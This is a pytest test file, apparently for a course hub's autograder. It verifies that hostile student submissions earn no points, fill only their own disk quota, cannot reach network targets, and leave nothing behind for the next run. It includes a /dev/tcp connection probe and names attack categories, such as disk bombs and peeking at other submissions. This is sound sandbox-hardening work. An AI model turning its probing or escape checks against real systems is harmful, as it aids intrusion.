def measured(course, student, tmp_path_factory) -> Iterator[Measured]:
    worker = student("s24")
    node = journey.start(worker)
    kernel = worker.kernel()
    kernel.run("begun = 42")
    (container,) = lab.containers_of("s24", node)
    try:
        table = autograde("attacks")["table"]
        before = volumes()
        table = autograde("pair")["table"] | {k: v for k, v in table.items() if k in FIRST}
        top = tmp_path_factory.mktemp("graded")
        lab.run("docker", "cp", f"{lab.CONTAINER}hub:{PLACE}/autograded/.", str(top))
        yield Measured(table, top, kernel, container, len(volumes() - before))
    finally:
        worker.stop()


# -- what came of it


def outcome(measured: Measured, user: str, one: Try) -> str:
    """Points and what is told of a submission, for the page; it must be as it is expected."""
    said = measured.table[user]
    most = 2 if user in PAIRS else POINTS
    points = f"{one.points:g} of {most}"
    assert said.startswith(f"done: {points}"), (user, said)
    if one.told:
        words = one.told.split("|")
        assert any(word in said for word in words), (user, said)
        return f"| {points} | {' or '.join(f'“… {word} …”' for word in words)} |"
    assert said == f"done: {points}", (user, said)
    return f"| {points} | nothing{'' if one.points else ': the tests failed'} |"


def rows(measured: Measured, tries: dict[str, Try]) -> str:
    lines = [
        f"| {one.title} {outcome(measured, user, one)}\n"
        for user, one in tries.items()
        if one.title
    ]
    return "| attack | points | told |\n|---|---|---|\n" + "".join(lines)


def on_the_page(table: str) -> None:
    print(table)
    assert table in PAGE.read_text(encoding="utf-8"), f"{PAGE} must have this table:\n{table}"


def test_who_is_up_to_nothing_gets_what_is_due(measured):
    for user in (*KNOWN, "pair_honest", "pair_honest_too"):
        points = f"{POINTS} of {POINTS}" if user in KNOWN else "2 of 2"
        assert measured.table[user] == f"done: {points}"


def test_no_attack_gets_points(measured):
    on_the_page(rows(measured, MARKS | PAIRS))


def test_what_breaks_breaks_itself(measured):
    on_the_page(rows(measured, BOMBS))
    path = measured.graded / "fill" / "attacks" / "attacks.ipynb"
    filled = path.read_text(encoding="utf-8")
    assert filled.count(f"{DISK >> 20} MiB File too large") == 2
    assert filled.count("No space left on device") == 3


def test_what_succeeds_is_told_on_the_page(measured):
    on_the_page(rows(measured, LUCK))
    notebook = (measured.graded / "peek" / "attacks" / "attacks.ipynb").read_text(encoding="utf-8")
    assert "assert square(7) == 49" in notebook.partition("PEEKED ")[2]


def test_code_reaches_nothing(measured):
    for host, port in {*TARGETS.values()} - {NFS}:
        assert any(opens(node, host, port) for node in lab.NODES), f"nothing is at {host}:{port}"
    assert measured.table["prober"] == f"done: {POINTS} of {POINTS}"
    seen = dict(measured.printed("prober", "SEEN"))
    assert seen.keys() == PROBES.keys()
    assert not [title for title, said in seen.items() if "DONE" in str(said)], seen
    lines = "".join(f"| {title} | {', '.join(said)} |\n" for title, said in seen.items())
    on_the_page(f"| attempt | answer |\n|---|---|\n{lines}")


def opens(host: str, address: str, port: int) -> bool:
    """Whether a host of the lab gets a connection, which a submission is refused."""
    try:
        lab.on(host, "timeout", "5", "bash", "-c", f"exec 3<>/dev/tcp/{address}/{port}")
    except lab.CommandFailed:
        return False
    return True


def test_nothing_reaches_the_next_submission(measured):
    for user in LEAVING:
        assert measured.printed(user, "LEFT") == [LEFT], user
    assert measured.fresh < 2 * len(PAIRS), "no container of the second run came where one had been"
    for user in PAIRS:
        assert measured.printed(user, "FOUND") == [[]], user


def test_the_class_goes_on(measured, site):
    assert set(lab.NODES) <= set(lab.ready_nodes())
    assert measured.kernel.value("begun") == 42
    assert measured.container in lab.containers_of("s24", lab.node_of("s24"))
    assert lab.operator(site).hub_is_up()
    for host in lab.NODES:
        left = ["ps", "--all", "--quiet", "--filter", "label=classhub.grading=attacks"]
        wait_until(f"nothing is left on {host}", lambda h=host, w=left: not lab.docker(h, *w), 30)
        data = f"find /var/lib/docker/volumes -path '*{DISK}*/_data/*'"
        assert lab.shell(host, data) == ""
    assert lab.shell("hub", f"ls {SPOOL}") == ""
